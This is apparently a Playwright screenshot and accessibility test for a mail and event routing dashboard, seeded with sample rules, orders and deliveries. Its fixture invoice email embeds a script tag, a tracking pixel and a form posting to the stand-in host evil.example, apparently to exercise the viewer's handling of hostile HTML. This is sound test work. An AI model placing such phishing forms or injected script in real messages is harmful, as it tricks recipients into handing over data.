import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { addDelivery, addMessage, plan, quarantined } from '../routes/seed.js';
import { launchBrowser } from '../support/chromium.js';
import { expectAccessible, startSite, type TestSite } from './harness.js';

let site: TestSite;
let browser: Browser;
beforeAll(async () => {
  site = await startSite();
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});
const RULES = `mode: first-match
rules:
  - name: payments
    description: Payments and refunds are booked.
    when:
      kind: event
      type: [payment.received, payment.refunded]
    then: { targets: [erp, archive] }
  - name: invoices
    description: Mail that brings an invoice, by its address or by what it looks like.
    when:
      kind: mail
      $or:
        - to: [invoices@example.com, billing@example.com]
        - subject: [{ prefix: Invoice }, { wildcard: "*invoice no*" }]
          parts.type: application/pdf
    then: { targets: [erp, archive] }
  - name: orders
    when:
      type: { prefix: order. }
    then: { targets: [erp, archive] }
`;
const HTML = `From: "Nordwind Logistik" <billing@nordwind.example>
To: invoices@example.com
Subject: Invoice 2026-1187 for your October shipments
Date: Fri, 20 Nov 2026 09:12:44 +0000
Message-ID: <1187@nordwind.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b1

--b1
Content-Type: text/html; charset=utf-8

<html><body style="font-family:Georgia,serif"><script>document.title='x'</script>
<h1 style="color:#27408b">Nordwind Logistik</h1>
<img src="https://tracker.example/pixel.gif"><form action="https://evil.example"><input name=p><button>Pay</button></form>
<p>Dear customer,</p><p>please find attached our invoice for the shipments of October. The amount of <b>EUR 12,480.00</b> is due within 14 days.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><th>Position</th><th>Shipments</th><th>Amount</th></tr><tr><td>Express, domestic</td><td>312</td><td>EUR 7,020.00</td></tr><tr><td>Freight, EU</td><td>41</td><td>EUR 5,460.00</td></tr></table>
<p>Questions? <a href="https://nordwind.example/help">We are here to help.</a></p></body></html>
--b1
Content-Type: application/pdf; name="invoice-1187.pdf"
Content-Disposition: attachment; filename="invoice-1187.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK
--b1
Content-Type: text/csv; name="shipments.csv"
Content-Disposition: attachment; filename="shipments.csv"

a,b
1,2
--b1--
`;
test('shots', async () => {
  const { pool, tenant, targets } = site;
  await pool.query(
    `insert into rule_set (tenant, version, hash, text, managed_by, active, who) values ($1, 3, 'x', $2, 'file', true, 'file')`,
    [tenant.id, RULES],
  );
  const mail = await site.addMail(HTML.replaceAll('\n', '\r\n'));
  for (const f of [
    'enmime/mail__attachment.raw',
    'enmime/low-quality__malformed-base64-attach.raw',
    'enmime/mail__html-mime-inline.raw',
    'enmime/delayed_dsn.raw',
    'enmime/mail__mime-alternative.raw',
  ]) {
    await site.addMail(readFileSync(`/work/shared/corpus/mail/${f}`, 'utf8'), 'support@example.com');
  }
  const event = await site.addEvent(
    `{"id":"ord_90817263544536271819","customer":{"name":"Östgöta Kök & Bad AB","country":"SE","vat":"SE556677889901"},"lines":[{"sku":"TAP-22-CHROME","quantity":4,"price":129.90},{"sku":"SINK-60","quantity":1,"price":1890.00}],"total":2409.60,"exact":12345678901234567890.123456789,"paid":false,"coupon":null}`,
    { type: 'order.flagged', account: 'ostgota-kok-och-bad' },
  );
  await pool.query(`update message set value = '2409.60' where tenant = $1 and channel = $2 and sequence = $3`, [
    tenant.id,
    event.channel,
    event.sequence,
  ]);
  for (let i = 0; i < 9; i++)
    await site.addEvent(`{"amount":${i * 100}.00}`, {
      type: ['invoice.disputed', 'customer.merged', 'payment.unmatched'][i % 3]!,
      account: `customer-${1000 + i}`,
    });
  await pool.query(`update standing set since = now() - make_interval(mins => (sequence * sequence * 3)::int)`);
  await pool.query(
    `update plan set runs = replace(runs::text, '"set":1,"rules":["orders"]', '"set":3,"rules":[]')::json`,
  );
  const rd = { by: 'rules' as const, set: 3, rules: ['orders'] };
  for (let i = 0; i < 12; i++) {
    const place = await addMessage(pool, tenant, {
      source: site.sources.billing,
      type: 'order.placed',
      account: `shop-${i}`,
      raw: '{"specversion":"1.0","id":"x","source":"/s","type":"order.placed","data":{"a":1}}',
      arrivedAt: new Date(Date.now() - i * 900_000),
    });
    const p = await plan(pool, tenant, place, {
      targets: [
        [targets.erp, i + 1, i % 4 === 0 ? 'later' : 'now'],
        [targets.archive, i + 1, 'now'],
      ],
      by: rd,
      at: new Date(Date.now() - i * 900_000),
    });
    if (i % 4 === 0) {
      await addDelivery(pool, tenant, place, {
        target: targets.erp,
        number: i + 1,
        plan: p,
        state: i === 0 ? 'pending' : 'failed',
        at: new Date(Date.now() - i * 900_000),
      });
      await pool.query(
        `update delivery set decision = $3, attempts = 3, code = 'http_500', reason = 'the target answered 500 Internal Server Error' where target = $1 and number = $2`,
        [targets.erp, i + 1, JSON.stringify(rd)],
      );
      for (let t = 1; t <= 3; t++)
        await pool.query(
          `insert into delivery_attempt (tenant, target, channel, epoch, number, attempt, what, started_at, took_ms, result, code, reason, answer) values ($1,$2,0,1,$3,$4,'message',now(),213,'retry','http_500','the target answered 500 Internal Server Error','{"error":"deadlock detected"}')`,
          [tenant.id, targets.erp, i + 1, t],
        );
    }
  }
  await pool.query(
    `update target set last_taken_at = now() - interval '7 min', definition = '{"kind":"webhook","url":"https://user:pw@crm.example.com/in","body":"message","order":"none","inlineParts":false,"secrets":["whsec_abcdefgh"],"headers":{},"timeoutSeconds":15,"concurrency":8,"allowPrivateAddresses":false}', kind='webhook' where id = $1`,
    [targets.erp],
  );
  await pool.query(
    `update target set paused_at = now() - interval '2 h', paused_by = 'waybill', paused_code = 'http_401', paused_reason = 'the target answered 401 Unauthorized' where id = $1`,
    [targets.crm],
  );
  await quarantined(pool, tenant, site.sources.billing, 'conflict', event);
  const q = await quarantined(pool, tenant, site.sources.billing, 'expired');
  const replayed = (await pool.query(`select channel, sequence from delivery where state='failed' limit 1`)).rows[0];
  const pages: Record<string, string> = {
    inbox: '/inbox',
    mail: `/messages/${mail.channel}-${mail.sequence}?back=%2Finbox`,
    event: `/messages/${event.channel}-${event.sequence}`,
    headers: `/messages/${mail.channel}-${mail.sequence}?tab=headers`,
    routed: `/messages/${replayed.channel}-${replayed.sequence}`,
    messages: '/messages',
    targets: '/targets',
    target: '/targets/erp',
    paused: '/targets/crm',
    quarantine: '/quarantine',
    quarantined: `/quarantine/q-${q}`,
    overview: '/overview',
    people: '/people',
    tokens: '/tokens',
    delivery: `/deliveries/1.erp.0-5`,
    problem: '/messages/3-999',
    signin: '/sign-in',
  };
  const only = process.env.SHOTS?.split(',');
  const bad: string[] = [];
  for (const colorScheme of ['light', 'dark'] as const)
    for (const width of (process.env.WIDTHS ?? '1280,400').split(',').map(Number)) {
      const context = await site.signedIn(browser, { colorScheme, viewport: { width, height: 860 } });
      const page = await context.newPage();
      page.on('console', (m) => {
        if (m.type() === 'error' || m.type() === 'warning') bad.push(`${page.url()} ${m.text()}`);
      });
      page.on('pageerror', (e) => bad.push(`${page.url()} ${e.message}`));
      for (const [name, path] of Object.entries(pages)) {
        if (only && !only.includes(name)) continue;
        await page.goto(path);
        await page.screenshot({
          path: `/tmp/shots/${name}-${colorScheme}-${width}.png`,
          fullPage: width === 400 || !['inbox'].includes(name),
        });
        const wide = await page.evaluate(
          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
        );
        if (wide > 0) bad.push(`${name} ${width} is ${wide} px too wide`);
        await expectAccessible(page).catch((e) =>
          bad.push(e.message.slice(0, 200) + JSON.stringify(e.actual).slice(0, 1500)),
        );
      }
    if (!only || only.includes('act')) {
      await page.goto('/inbox'); await page.keyboard.press('j'); await page.keyboard.press('j'); await page.keyboard.press('1'); await page.keyboard.press('3');
      await page.screenshot({ path: `/tmp/shots/act1-${colorScheme}-${width}.png` });
      await page.keyboard.press('Enter'); await page.getByRole('status').waitFor();
      site.announce(await site.addEvent('{"x":1}', { type: 'payment.chargeback', account: 'globex' })); await page.getByRole('button', { name: '1 new' }).waitFor();
      await page.screenshot({ path: `/tmp/shots/act2-${colorScheme}-${width}.png` });
      await page.keyboard.press('?'); await page.screenshot({ path: `/tmp/shots/act3-${colorScheme}-${width}.png` });
    }
      await context.close();
    }
  expect([...new Set(bad)]).toEqual([]);
}, 300_000);
